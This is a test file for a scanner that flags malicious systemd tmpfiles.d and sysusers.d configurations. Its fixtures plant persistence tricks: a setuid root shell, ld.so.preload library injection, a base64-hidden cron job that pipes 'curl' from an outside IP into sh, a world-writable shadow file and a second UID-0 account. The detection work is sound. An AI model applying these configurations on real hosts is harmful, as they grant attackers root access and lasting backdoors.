import { expect, it } from 'vitest';
import { tellsOf } from '../../../test/plant-rows.ts';
import { tmpfilesSysusers } from './check.ts';
import { splitLine } from './lines.ts';

tellsOf(tmpfilesSysusers, {
  rows: {
    'a set-uid shell made at each boot': { files: { '/etc/tmpfiles.d/a.conf': 'z /usr/local/bin/bash 4755 root root - -\n' }, finds: ['intrusion critical /etc/tmpfiles.d/a.conf'] },
    'a preloaded library': { files: { '/usr/lib/tmpfiles.d/b.conf': 'f+ /etc/ld.so.preload 0644 root root - /usr/lib/libk.so\n' }, finds: ['intrusion high /usr/lib/tmpfiles.d/b.conf'] },
    'a job of cron in base64': { files: { '/etc/tmpfiles.d/c.conf': `f~ /etc/cron.d/c 0644 root root - ${Buffer.from('* * * * * root curl http://203.0.113.1/a | sh\n').toString('base64')}\n` }, finds: ['intrusion high /etc/tmpfiles.d/c.conf'] },
    'a program copied from an open folder': { files: { '/run/tmpfiles.d/d.conf': 'C /usr/sbin/sshd-keep 0755 root root - /var/tmp/s\n' }, finds: ['intrusion high /run/tmpfiles.d/d.conf'] },
    'a preloaded library by a link': { files: { '/etc/tmpfiles.d/h.conf': 'L+ /etc/ld.so.preload - - - - /usr/share/keep/list\n' }, finds: ['intrusion high /etc/tmpfiles.d/h.conf'] },
    'passwords opened to all': { files: { '/etc/tmpfiles.d/e.conf': 'z /etc/shadow 0666 root root -\n' }, finds: ['weakness high /etc/tmpfiles.d/e.conf'] },
    'a second root': { files: { '/etc/sysusers.d/f.conf': 'u sysd 0 "System" /root /bin/bash\n' }, finds: ['intrusion high /etc/sysusers.d/f.conf'] },
    'an account put into sudo': { files: { '/etc/sysusers.d/g.conf': 'm www-data sudo\n' }, finds: ['weakness medium /etc/sysusers.d/g.conf'] },
  },
  ordinary: {
    '/etc/tmpfiles.d/app.conf': 'd /run/app 0755 www-data www-data -\nf /run/app/app.pid 0644 www-data www-data -\nw /sys/kernel/mm/transparent_hugepage/enabled - - - - never\nD /tmp/app 1777 root root 1d\n',
    '/usr/lib/tmpfiles.d/systemd.conf': { text: 'f+ /etc/ld.so.preload 0644 root root - x\n', package: 'systemd' },
    '/etc/sysusers.d/app.conf': 'u app - "App" /var/lib/app\ng app -\nm app adm\n',
  },
  reads: '/etc/tmpfiles.d/c.conf',
});

it('keeps blanks in quotes', () => {
  expect(splitLine('  u app 500:600 "An app" \'/var/lib/a b\' - ')).toEqual(['u', 'app', '500:600', 'An app', '/var/lib/a b', '-']);
});
